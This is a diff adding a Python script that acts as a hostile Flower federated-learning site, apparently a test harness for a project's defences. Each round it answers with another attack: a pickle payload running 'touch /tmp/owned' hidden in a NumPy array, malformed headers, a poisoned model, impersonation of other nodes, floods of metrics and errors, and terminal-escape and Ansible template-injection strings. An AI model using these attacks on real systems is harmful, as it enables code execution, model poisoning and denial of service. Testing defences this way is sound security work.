@@ -1,0 +1,210 @@
+# Copyright: (c) 2026, fedops.flower contributors
+# SPDX-License-Identifier: GPL-3.0-or-later
+"""A site with a registered key that speaks Flower's protocol itself, and answers each round with another attack.
+
+evil_site.py ADDRESS AUTHORITY KEY NODES REPORT: NODES are the ids of the other SuperNodes, with commas. What it got
+goes to REPORT, after every round. It ends when it is told to.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import importlib
+import io
+import json
+import sys
+import tempfile
+import time
+import zipfile
+from collections.abc import Callable, Iterator
+from functools import partial
+from pathlib import Path
+from typing import Any
+
+import httpx
+import numpy as np
+from cryptography.hazmat.primitives.serialization import load_ssh_private_key
+from flwr.app import Array, ArrayRecord, ConfigRecord, Error, Message, MetricRecord, RecordDict
+from flwr.app.message import remove_content_from_message
+from flwr.proto.fleet_pb2 import (
+    DeactivateNodeRequest,
+    PullMessagesRequest,
+    RegisterNodeFleetRequest,
+    UnregisterNodeFleetRequest,
+)
+from flwr.proto.heartbeat_pb2 import SendNodeHeartbeatRequest
+from flwr.proto.node_pb2 import Node
+from flwr.supercore.inflatable.inflatable_object import get_all_nested_objects, get_object_tree
+from flwr.supercore.inflatable.inflatable_utils import pull_and_inflate_object_from_tree
+from flwr.supercore.interceptors.http.runtime_version import RuntimeVersionHttpInterceptor
+from flwr.supercore.primitives.asymmetric import generate_key_pairs, public_key_to_bytes
+from flwr.supernode.fleet_http_client import FleetHttpClient
+from flwr.supernode.fleet_http_connection import http_request_response
+from flwr.supernode.node_auth_http_interceptor import NodeAuthHttpInterceptor
+
+ESCAPES = "\x1b]0;owned\x07\x1b[2J\u202e{{ lookup('pipe', 'touch /tmp/owned-by-template') }}"
+MEGABYTE = 1 << 20
+PAUSE = 0.5
+
+
+def numpy_file(dtype: str, shape: str, content: bytes) -> bytes:
+    """Return a NumPy file with a header as it is given."""
+    header = f"{{'descr': {dtype}, 'fortran_order': False, 'shape': {shape}, }}".encode()
+    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
+    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + content
+
+
+def raw(name: str, array: Array, dtype: str, shape: str, content: bytes = b"") -> tuple[str, Array]:
+    """Return an array whose header lies."""
+    return name, Array(dtype=array.dtype, shape=array.shape, stype=array.stype, data=numpy_file(dtype, shape, content))
+
+
+class Site:
+    """What the site knows of a round, and the replies that it makes of it."""
+
+    def __init__(self, message: Message, app: Any) -> None:
+        self.message = message
+        self.model = message.content.array_records["arrays"]
+        self.integrity = app
+
+    def content(self, arrays: ArrayRecord, site: str = "site2", metrics: dict | None = None) -> RecordDict:
+        """Return a reply that is whole in everything but what it is made of."""
+        about = ConfigRecord({"site": site, self.integrity.FINGERPRINT: self.integrity.fingerprint(arrays)})
+        numbers = MetricRecord({"num-examples": 100, "train_loss": 0.1, **(metrics or {})})
+        return RecordDict({"arrays": arrays, "metrics": numbers, "site": about})
+
+    def first(self, dtype: str, shape: str, content: bytes = b"") -> RecordDict:
+        """Return a reply whose first array has a header of its own."""
+        (name, array), *others = self.model.items()
+        return self.content(ArrayRecord(dict([raw(name, array, dtype, shape, content), *others])))
+
+    def poisoned(self) -> ArrayRecord:
+        """Return a model far away from the one that was sent."""
+        return ArrayRecord({name: Array(array.numpy() * 0 - 1e6) for name, array in self.model.items()})
+
+    def extra(self) -> dict[str, list[float]]:
+        """Return metrics that nobody asked for."""
+        return {f"extra{ESCAPES}{number}": [1.0] * 10 for number in range(5000)}
+
+    def larger(self) -> ArrayRecord:
+        """Return the model with an array more."""
+        return ArrayRecord({**dict(self.model.items()), "more": Array(np.zeros(64 * MEGABYTE // 8))})
+
+    def attacks(self) -> dict[str, Callable[[], RecordDict | Error]]:
+        """Return the attacks in their order, one for each round."""
+        return {
+            "void array": lambda: self.first("'|V0'", "(-1,)"),
+            "empty bytes": lambda: self.first("'|S0'", "(-1,)"),
+            "empty text": lambda: self.first("'<U0'", "(-1,)"),
+            "object array": lambda: self.first("'|O'", "(1,)", b"cos\nsystem\n(S'touch /tmp/owned'\ntR."),
+            "enormous shape": lambda: self.first("'<f8'", "(9223372036854775807, 4)"),
+            "name of another, and a metric more": lambda: self.content(self.poisoned(), "!", {"more": 1.0}),
+            "name of another": lambda: self.content(self.poisoned(), "site1", {ESCAPES: 1.0}),
+            "5,000 metrics": lambda: self.content(self.poisoned(), ESCAPES * 1000, self.extra()),
+            "64 MB more": lambda: self.content(self.larger()),
+            "20 MB of an error": lambda: Error(code=0, reason=ESCAPES * (20 * MEGABYTE // len(ESCAPES))),
+        }
+
+
+def app_of(fab: bytes) -> Any:
+    """Return the part of the app that makes fingerprints, from what the SuperLink gives to every site."""
+    folder = tempfile.mkdtemp()
+    zipfile.ZipFile(io.BytesIO(fab)).extractall(folder)
+    sys.path.insert(0, folder)
+    package = next(Path(folder).glob("*/integrity.py")).parent.name
+    return importlib.import_module(f"{package}.integrity")
+
+
+@contextlib.contextmanager
+def client(address: str, authority: str, keys: tuple[Any, Any]) -> Iterator[FleetHttpClient]:
+    """Give a client that signs with a key."""
+    interceptors = [RuntimeVersionHttpInterceptor(component_name="SuperNode"), NodeAuthHttpInterceptor(*keys)]
+    with FleetHttpClient.from_server_address(address, False, authority, interceptors=interceptors) as made:
+        yield made
+
+
+def as_somebody_else(address: str, authority: str, keys: tuple[Any, Any], nodes: list[int]) -> list[str]:
+    """Speak for the other SuperNodes, with the own key and with one that nobody knows."""
+    strangers = generate_key_pairs()
+    got = []
+    for who, pair in (("site", keys), ("stranger", strangers)):
+        with client(address, authority, pair) as fleet:
+            asked = {
+                "register": lambda: fleet.RegisterNode(
+                    RegisterNodeFleetRequest(public_key=public_key_to_bytes(strangers[1]))
+                )
+            }
+            for number in nodes:
+                node = Node(node_id=number)
+                asked |= {
+                    f"pull {number}": lambda node=node: fleet.PullMessages(PullMessagesRequest(node=node)),
+                    f"heartbeat {number}": lambda node=node: fleet.SendNodeHeartbeat(
+                        SendNodeHeartbeatRequest(node=node, heartbeat_interval=30)
+                    ),
+                    f"deactivate {number}": lambda number=number: fleet.DeactivateNode(
+                        DeactivateNodeRequest(node_id=number)
+                    ),
+                    f"unregister {number}": lambda number=number: fleet.UnregisterNode(
+                        UnregisterNodeFleetRequest(node_id=number)
+                    ),
+                }
+            for name, ask in asked.items():
+                with contextlib.suppress(httpx.HTTPError):
+                    ask()
+                    got.append(f"{who}: {name}")
+    return got
+
+
+def main() -> None:
+    """Attack until somebody ends it."""
+    address, authority, key_file, nodes, report = sys.argv[1:6]
+    private = load_ssh_private_key(Path(key_file).read_bytes(), None)
+    keys = (private, private.public_key())
+    told: dict[str, Any] = {"rounds": [], "problems": []}
+
+    def save() -> None:
+        Path(report).write_text(json.dumps(told))
+
+    told["as somebody else"] = as_somebody_else(
+        address, authority, keys, [int(node) for node in nodes.split(",") if node]
+    )
+    save()
+    with http_request_response(address, False, authority, keys) as connection:
+        node_id, receive, send, _get_run, get_fab, pull_object, push_object, confirm = connection
+        told["node_id"] = str(node_id)
+        save()
+        while True:
+            time.sleep(PAUSE)
+            if (received := receive()) is None:
+                continue
+            header, tree = received
+            run_id = header.metadata.run_id
+            try:
+                message = pull_and_inflate_object_from_tree(
+                    tree,
+                    partial(pull_object, run_id),
+                    partial(confirm, run_id),
+                    return_type=Message,
+                )
+                message.metadata.__dict__["_message_id"] = tree.object_id
+                run = _get_run(run_id)
+                site = Site(message, app_of(get_fab(run.fab_hash, run_id).content))
+                attacks = site.attacks()
+                name = list(attacks)[len(told["rounds"]) % len(attacks)]
+                made = attacks[name]()
+                reply = Message(made, reply_to=message)
+                reply.metadata.__dict__["_message_id"] = reply.object_id
+                objects = get_all_nested_objects(reply)
+                tree = get_object_tree(reply)
+                wanted, session = send(remove_content_from_message(reply) if reply.has_content() else reply, tree, 1.0)
+                for object_id in wanted:
+                    push_object(run_id, session, object_id, objects[object_id].deflate())
+                told["rounds"].append(name)
+            except Exception as error:  # the next round is another attack
+                told["rounds"].append(f"{type(error).__name__}")
+                told["problems"].append(str(error)[:500])
+            save()
+
+
+if __name__ == "__main__":
+    main()
